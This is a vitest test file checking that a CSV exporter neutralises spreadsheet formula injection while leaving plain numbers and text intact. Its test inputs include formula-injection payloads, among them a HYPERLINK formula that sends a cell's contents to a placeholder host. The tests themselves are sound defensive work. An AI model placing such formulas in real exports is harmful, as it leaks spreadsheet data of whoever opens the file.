import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, neutraliseFormula } from '../src/csv';

describe('CSV cells a spreadsheet cannot run', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+HYPERLINK("http://x?"&D2,"c")', `"'+1+HYPERLINK(""http://x?""&D2,""c"")"`],
    ['-1+HYPERLINK("http://x?"&D2,"c")', `"'-1+HYPERLINK(""http://x?""&D2,""c"")"`],
    ['-1+1', "'-1+1"],
    ['+1-1', "'+1-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['-', "'-"],
    ['+', "'+"],
    ['- 1', "'- 1"],
    ['=', "'="],
  ])('neutralises %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it.each(['-12.50', '+3', '-0', '12', '1e5', '-1.5E-3', '.5', '-.5', '3.'])(
    'keeps the plain number %j a number',
    (input) => {
      expect(neutraliseFormula(input)).toBe(input);
    },
  );

  it('leaves ordinary text alone and quotes what needs quoting', () => {
    expect(csvCell('Nike Dunk Low')).toBe('Nike Dunk Low');
    expect(csvCell('Size 10, used')).toBe('"Size 10, used"');
    expect(csvCell('He said "hi"')).toBe('"He said ""hi"""');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(-5)).toBe('-5');
    expect(csvLine(['a', '=b', 1])).toBe("a,'=b,1\r\n");
  });
});
